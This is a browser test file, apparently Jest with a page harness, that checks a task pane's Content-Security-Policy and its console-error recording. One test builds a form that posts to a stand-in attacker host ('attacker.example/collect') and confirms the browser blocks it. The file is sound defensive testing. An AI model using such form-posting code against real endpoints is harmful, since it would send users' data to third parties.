/**
 * What the pane's Content-Security-Policy refuses, seen from the page (preview mode, built dist/), and the
 * harness's own console-error check (test/support/browser.ts) that every browser test relies on.
 */
import { paneHarness, type Pane } from "../support/browser";

const { open, close } = paneHarness();
jest.setTimeout(60_000);

/** Takes out of the pane's recorded errors exactly the ones a test caused on purpose. */
function expectAndClear(pane: Pane, pattern: RegExp): void {
  expect(pane.consoleErrors.some((e) => pattern.test(e))).toBe(true);
  pane.consoleErrors.splice(0, pane.consoleErrors.length, ...pane.consoleErrors.filter((e) => !pattern.test(e)));
}

test("a form cannot submit anywhere (form-action 'none'): the browser refuses and the pane stays", async () => {
  const pane = await open();
  const violated = await pane.page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", (e) => resolve(`${e.effectiveDirective} ${e.blockedURI}`), { once: true });
        const form = document.createElement("form");
        form.action = "https://attacker.example/collect";
        form.method = "post";
        document.body.appendChild(form);
        form.submit();
      }),
  );
  expect(violated).toMatch(/^form-action https:\/\/attacker\.example/);
  // The blocked navigation never commits: the same document still shows the pane.
  await expect(pane.page.evaluate(() => [location.pathname, document.querySelector('input[type="search"]') !== null])).resolves.toEqual(["/taskpane.html", true]);
  expectAndClear(pane, /form-action 'none'/);
  await close(pane);
});

test("the harness records a console error the page logs, so a browser test fails on it", async () => {
  const pane = await open();
  await Promise.all([pane.page.waitForEvent("console"), pane.page.evaluate(() => console.error("pane problem for the harness check"))]);
  expect(pane.consoleErrors).toContain("console: pane problem for the harness check");
  expectAndClear(pane, /pane problem for the harness check/);
  await close(pane);
});
